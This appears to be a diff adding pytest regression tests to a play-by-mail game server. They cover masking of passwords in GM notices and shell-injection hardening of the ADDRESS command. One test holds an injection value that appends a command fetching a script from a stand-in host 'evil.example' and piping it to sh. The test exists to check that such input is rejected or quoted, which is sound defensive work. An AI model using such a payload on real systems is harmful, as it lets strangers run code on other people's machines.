@@ -5,12 +5,14 @@ wrong password, and what the GM is told."""
 
 from __future__ import annotations
 
+import shlex
 from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from players.test_commands import (
     JACQUES,
+    SHELL_ADDRESS,
     _game_of_kind,
     configured,
     count,
@@ -108,6 +110,22 @@ def test_to_gm_passes_the_rest_of_the_mail_on_without_the_password(
         assert any(e.event == "player.to-gm" for e in repo.gm_log(session))
 
 
+def test_to_gm_never_passes_on_a_password_written_in_the_note(
+        db: Engine, config: Config) -> None:
+    """The GM's notice is kept in the outbox and mailed: a password the player writes in
+    his words to the GM (the one he proves himself with, after its keyword; the new one
+    his PASSWORD command sets, wherever) is masked there as in the stored message.  Only
+    lines beginning with PASSWORD were left out, so both went to the GM in clear."""
+    make_game(db, config)
+    assert send(db, config, "PASSWORD: rapier\nPASSWORD longsecret7\nTO GM\nIs my "
+                            "password rapier too short?  I made it longsecret7 now.\n"
+                            ) == "accepted"
+    text = text_of(mails(db, "gm-notice")[-1])
+    assert "Is my password [removed after the check] too short?  I made it " \
+           "[removed after the check] now." in text
+    assert "rapier" not in text and "longsecret7" not in text
+
+
 def test_resign_asks_the_gm_and_the_player_plays_on(db: Engine, config: Config) -> None:
     make_game(db, config)
     assert send(db, config, "PASSWORD: rapier\nRESIGN\n") == "accepted"
@@ -163,3 +181,24 @@ def test_form_and_deadline_in_every_game_before_its_first_turn(
     text = reply(db)
     form = text.split("== FORM ==\n\n")[1].split("\n== DEADLINE ==")[0]
     assert form.strip() and "No deadline is set yet for" in text
+
+
+def test_address_and_resign_notices_cannot_run_commands_on_the_gms_machine(
+        db: Engine, config: Config) -> None:
+    """ADDRESS took anything with an "@" and no <>"'\\ or space, and the notice wrote it
+    bare into the `moderator player address/replace` lines the GM pastes: ADDRESS
+    a@b.example;{curl,-s,evil.example}|sh ran a stranger's script.  Only an address mail
+    can go to is taken, and the lines quote it (RFC 5322 lets one hold ` $ & |)."""
+    make_game(db, config)
+    send(db, config, "PASSWORD: rapier\nADDRESS a@b.example;{curl,-s,evil.example}|sh\n")
+    assert "is not a mail address" in reply(db) and not mails(db, "gm-notice")
+    send(db, config, f"PASSWORD: rapier\nADDRESS {SHELL_ADDRESS}\n")
+    lines = [line.strip() for line in text_of(mails(db, "gm-notice")[-1]).splitlines()
+             if line.strip().startswith("moderator player")]
+    assert len(lines) == 2
+    for line in lines:  # moderator player address|replace paris OLD NEW --reason ...
+        assert shlex.split(line)[4:6] == [JACQUES, SHELL_ADDRESS], line
+    send(db, config, "PASSWORD: rapier\nRESIGN\n")
+    notice = text_of(mails(db, "gm-notice")[-1])
+    assert all(shlex.split(line.strip())[4] == JACQUES for line in notice.splitlines()
+               if line.strip().startswith("moderator player"))
